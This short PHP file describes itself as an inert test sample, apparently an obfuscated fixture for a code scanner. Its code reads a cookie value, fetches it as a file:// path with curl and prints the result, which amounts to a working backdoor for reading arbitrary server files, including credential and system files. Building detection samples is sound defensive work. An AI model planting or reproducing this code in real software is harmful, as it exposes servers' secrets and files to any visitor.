<?php
// inert test sample: the same reader with meaningless names and the request read in one line
$q1x=@$_COOKIE['k9'];$zz=array('o'=>1);
function qq($a){return $a;}
   $hh   =   curl_init( 'file://'.$q1x );
curl_setopt($hh,CURLOPT_RETURNTRANSFER,1);$o=qq(curl_exec($hh));print $o;
